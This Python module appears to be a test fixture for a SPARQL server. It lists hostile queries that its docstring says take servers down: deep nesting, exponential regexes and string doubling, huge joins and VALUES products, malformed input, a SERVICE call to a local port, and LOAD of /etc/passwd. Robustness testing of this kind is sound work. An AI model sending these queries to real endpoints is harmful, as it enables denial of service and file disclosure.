"""Queries that take a server down, each in its own way (measured on other servers)."""

PAIRS = " ".join(f"?a{n} ?b{n} ?c{n} ." for n in range(12))

RUNAWAY = f"SELECT (COUNT(*) AS ?n) {{ {PAIRS} }}"

HOSTILE = {
    "nested REGEX": "SELECT * { ?s ?p ?o FILTER(" + "REGEX(STR(" * 20 + "?o" + '), "x")' * 20 + ") }",
    "malformed REGEX": "SELECT * { ?s ?p ?o FILTER(" + "REGEX(STR(" * 11 + "?o",
    "nested collections": "SELECT * { ?s ?p " + "(" * 270 + " 1 " + ")" * 270 + " }",
    "nested groups, 9 kB": "SELECT * { " + "{" * 4500 + "}" * 4500 + " }",
    "nested filters, 12 kB": "SELECT * { ?s ?p ?o FILTER(" + "(" * 6000 + "1" + ")" * 6000 + ") }",
    "prefix operators": "ASK { FILTER(" + "!" * 7900 + "true) }",
    "long sums": "ASK { FILTER(" + "1+" * 3900 + "1) }",
    "long paths": "ASK { ?s " + "<urn:p>/" * 1900 + "<urn:p> ?o }",
    "unions": "ASK { " + "{} UNION " * 2600 + "{} }",
    "optionals": "ASK { " + "OPTIONAL { ?s ?p ?o } " * 1000 + "}",
    "recursive paths": "SELECT * { " + " ".join(f"?a{n} (<urn:p>|!<urn:q>)* ?a{n + 1} ." for n in range(12)) + " }",
    "doubling": 'SELECT ?a40 { BIND("aaaaaaaaaaaaaaaa" AS ?a0) '
    + " ".join(f"BIND(CONCAT(?a{n}, ?a{n}) AS ?a{n + 1})" for n in range(40))
    + " }",
    "sorted product": f"SELECT * {{ {PAIRS} }} ORDER BY ?c3",
    "counted product": RUNAWAY,
    "grouped product": f"SELECT ?a1 (GROUP_CONCAT(?c2) AS ?x) {{ {PAIRS} }} GROUP BY ?a1",
    "product": f"SELECT * {{ {PAIRS} }}",
    "constructed product": f"CONSTRUCT {{ ?a1 ?b2 ?c3 }} {{ {PAIRS} }}",
    "huge VALUES": "SELECT * { VALUES ?x { " + "1 " * 7900 + "} VALUES ?y { 1 2 } }",
    "product of VALUES": "SELECT (COUNT(*) AS ?n) { "
    + " ".join(f"VALUES ?x{n} {{ {'1 ' * 600}}}" for n in range(12))
    + " }",
    "regular expression": 'ASK { FILTER(REGEX("' + "a" * 2000 + '", "(a*)*(a*)*(a{1,900}){1,900}b")) }',
    "replacements": 'SELECT (REPLACE(REPLACE(REPLACE("'
    + "a" * 900
    + '", "a", "'
    + "a" * 900
    + '"), "a", "'
    + "a" * 900
    + '"), "a", "aaaaaaaaaaaaaaaaaa") AS ?x) {}',
    "unclosed": "SELECT * { " + "{ ?s ?p [ " * 9,
    "zero bytes": "ASK { ?s ?p '\0' }",
    "service": "SELECT * { SERVICE <http://127.0.0.1:9/> { ?s ?p ?o } }",
    "load": "LOAD <file:///etc/passwd>",
}
